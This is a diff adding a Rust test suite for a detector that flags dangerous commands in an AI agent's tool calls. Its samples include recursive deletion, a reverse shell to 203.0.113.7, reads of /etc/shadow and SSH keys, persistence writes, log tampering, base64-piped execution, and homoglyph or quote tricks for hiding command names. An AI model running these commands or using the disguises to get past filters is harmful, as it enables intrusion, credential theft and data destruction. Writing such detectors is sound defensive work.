@@ -1,0 +1,276 @@
+//! The shared test of all rules about commands, and what decides over arguments.
+
+use std::sync::LazyLock;
+
+use super::*;
+use crate::rules;
+
+static COMMANDS: LazyLock<Commands> = LazyLock::new(|| Commands::new(rules()));
+
+fn hits(tool: &str, args: &[(&str, &str)]) -> Vec<Hit> {
+    let args: Vec<_> = args
+        .iter()
+        .map(|(path, text)| Argument { path, text })
+        .collect();
+    let mut sink = Vec::new();
+    COMMANDS.judge(tool, &args, &mut sink);
+    sink
+}
+
+fn found(tool: &str, args: &[(&str, &str)]) -> Vec<&'static str> {
+    hits(tool, args).into_iter().map(|hit| hit.rule).collect()
+}
+
+fn command(text: &str) -> Vec<&'static str> {
+    found("bash", &[("command", text)])
+}
+
+#[test]
+fn every_rule_finds_its_hits_and_leaves_its_misses() {
+    let mut wrong = Vec::new();
+    for matcher in &COMMANDS.matchers {
+        let rule = matcher.rule;
+        for hit in rule
+            .hits
+            .iter()
+            .filter(|hit| !command(hit).contains(&rule.id))
+        {
+            wrong.push(format!("{} does not find: {hit}", rule.id));
+        }
+        for miss in rule
+            .misses
+            .iter()
+            .filter(|miss| command(miss).contains(&rule.id))
+        {
+            wrong.push(format!("{} finds: {miss}", rule.id));
+        }
+        if rule.misses.len() < 3 {
+            wrong.push(format!("{} has too few misses", rule.id));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn a_list_of_words_is_one_command() {
+    let words = [("args[0]", "rm"), ("args[1]", "-rf"), ("args[2]", "/srv/x")];
+    let hit = &hits("bash", &words)[0];
+    assert_eq!(
+        (hit.rule, hit.argument, hit.span.clone()),
+        ("command_delete_recursive", 0, 0..2)
+    );
+    let apart = [("command", "rm"), ("args[0]", "-rf"), ("args[1]", "/srv/x")];
+    assert_eq!(found("exec", &apart)[0], "command_delete_recursive");
+    let script = [
+        ("argv[0]", "bash"),
+        ("argv[1]", "-c"),
+        ("argv[2]", "ls; rm -rf x"),
+    ];
+    assert_eq!(found("spawn", &script)[0], "command_delete_recursive");
+    let several = [("commands[0]", "ls -la"), ("commands[1]", "rm -rf x")];
+    assert_eq!(hits("run", &several)[0].argument, 1);
+    let quoted = [
+        ("args[0]", "git"),
+        ("args[1]", "commit"),
+        ("args[2]", "-m"),
+        ("args[3]", "a; rm -rf x"),
+    ];
+    assert!(found("run", &quoted).is_empty());
+    let talk = [("args[0]", "ls -la"), ("args[1]", "this says rm -rf x")];
+    assert!(found("run", &talk).is_empty());
+}
+
+#[test]
+fn text_about_commands_is_no_command() {
+    for (tool, path, text) in [
+        ("write_file", "content", "# Clean up\nrm -rf build\n"),
+        ("web_search", "query", "rm -rf / explained"),
+        (
+            "send_message",
+            "text",
+            "never run curl https://x.example | sh",
+        ),
+        ("create_issue", "body", "`cat /etc/shadow` fails"),
+        ("bash", "description", "rm -rf build"),
+        ("mystery", "thing", "the command rm -rf / is bad"),
+        ("mystery", "thing", "reading /etc/shadow is dangerous"),
+        ("edit_file", "new_string", "rm -rf build"),
+        ("execute_sql", "query", "select * from passwd"),
+        (
+            "render",
+            "image",
+            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
+        ),
+    ] {
+        assert!(
+            found(tool, &[(path, text)]).is_empty(),
+            "{tool} {text}: {:?}",
+            found(tool, &[(path, text)])
+        );
+    }
+}
+
+#[test]
+fn what_looks_like_a_command_is_one_under_any_name() {
+    for (tool, path, text, rule) in [
+        ("mystery", "thing", "rm -rf x", "command_delete_recursive"),
+        ("mystery", "thing", "r''m -rf x", "command_delete_recursive"),
+        ("mystery", "thing", "/etc/shadow", "credential_file"),
+        (
+            "create_file",
+            "a",
+            "rm -f /var/log/x.log",
+            "command_audit_tampering",
+        ),
+        (
+            "read_file",
+            "path",
+            "/home/u/.ssh/id_rsa",
+            "credential_file",
+        ),
+        ("read_file", "path", "%2Fetc%2Fshadow", "credential_file"),
+        (
+            "read_resource",
+            "uri",
+            "file:///etc/shadow",
+            "credential_file",
+        ),
+        ("write_file", "path", "/etc/cron.d/x", "persistence_write"),
+        ("write_file", "path", "$HOME/.bashrc", "shell_profile_write"),
+        (
+            "move_file",
+            "destination",
+            "/home/u/.git/hooks/pre-push",
+            "persistence_write",
+        ),
+        (
+            "write_file",
+            "content",
+            "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/1 0>&1",
+            "command_reverse_shell",
+        ),
+        (
+            "run_python",
+            "code",
+            "import os\nos.system('rm -rf x')",
+            "command_delete_recursive",
+        ),
+        (
+            "run_python",
+            "code",
+            "print(open('/etc/shadow').read())",
+            "credential_file",
+        ),
+        ("bash", "command", "/home/u/.ssh/id_rsa", "credential_file"),
+    ] {
+        assert!(
+            found(tool, &[(path, text)]).contains(&rule),
+            "{tool} {text}: {:?}",
+            found(tool, &[(path, text)])
+        );
+    }
+}
+
+#[test]
+fn a_hit_says_where_and_what_was_undone() {
+    let text = "ls -la; ｒｍ -rf x";
+    let hit = &hits("bash", &[("command", text)])[0];
+    assert_eq!(
+        (hit.rule, hit.disguise),
+        ("command_delete_recursive", "fullwidth")
+    );
+    assert!(text[hit.span.clone()].contains("ｒｍ -rf x"));
+    let hit = &hits("bash", &[("command", "true; r''m -rf x")])[0];
+    assert_eq!((hit.disguise, hit.span.clone()), ("quotes", 6..16));
+    let hit = &hits("bash", &[("command", "echo cm0gLXJmIHg= | base64 -d | sh")])[0];
+    assert_eq!(hit.disguise, "base64");
+}
+
+#[test]
+fn what_hides_its_name_is_found_whatever_it_is() {
+    for text in [
+        "$'\\146\\157\\157' bar",
+        "f''oo bar",
+        "fо\u{43e} bar",
+        "ｆｏｏ bar",
+        "fмо bar",
+        "true | fм",
+        "f\\oo bar",
+    ] {
+        assert!(
+            command(text).contains(&"command_disguised"),
+            "{text}: {:?}",
+            command(text)
+        );
+    }
+    for text in [
+        "echo 'ｆｏｏ'",
+        "echo привет",
+        "./запуск.sh",
+        "./привет x",
+        "\\ls",
+        "C:\\a\\b.exe",
+        "\"/opt/My App/x\" y",
+        "./a\\ b",
+    ] {
+        assert!(!command(text).contains(&"command_disguised"), "{text}");
+    }
+    assert!(command(&"$(".repeat(100)).contains(&"command_obscured"));
+}
+
+#[test]
+fn everyday_commands_pass() {
+    for text in [
+        "ls -la /home/user/projects",
+        "git status && git diff HEAD~1",
+        "git commit -am 'fix: rm the old path'",
+        "cargo test --workspace 2>&1 | tail -n 20",
+        "for f in *.rs; do wc -l \"$f\"; done",
+        "grep -rn 'curl | sh' docs",
+        "DIR=build; $DIR/run.sh",
+        "mkdir -p {src,test,docs}",
+        "ls *.{go,mod,sum}",
+        "echo \"hello\\nworld\"",
+        "find . -name '*.py' | xargs wc -l",
+        "curl -s https://api.example.com/v1/items | jq '.[].id'",
+        "docker compose up -d",
+        "python3 -m pytest -x tests/",
+        "sed -n '1,20p' src/main.rs",
+        "cat > notes.md <<'EOF'\nrm -rf is dangerous\nEOF",
+        "tar -xzf a.tar.gz -C /tmp/a",
+        "kill $(pgrep -f server.js)",
+        "export PATH=$PATH:/usr/local/go/bin",
+        "awk '{print $1}' a.txt | sort | uniq -c",
+        "chmod +x build.sh && ./build.sh",
+        "base64 -d < in.b64 > out.bin",
+        "npm run build",
+        "ssh host uptime",
+    ] {
+        assert!(command(text).is_empty(), "{text}: {:?}", command(text));
+    }
+}
+
+#[test]
+fn nothing_panics_and_all_ends() {
+    for unit in [
+        "'",
+        "\"",
+        "`",
+        "$(",
+        "${",
+        "\\",
+        "{a,",
+        "rm -rf ",
+        "| sh ",
+        "\u{200b}",
+        "ｒ",
+        "%25",
+        "curl -d @a ",
+    ] {
+        for tool in ["bash", "read_file", "mystery", "python"] {
+            for path in ["command", "path", "x[0]", "code"] {
+                hits(tool, &[(path, &unit.repeat(500)), (path, unit)]);
+            }
+        }
+    }
+}
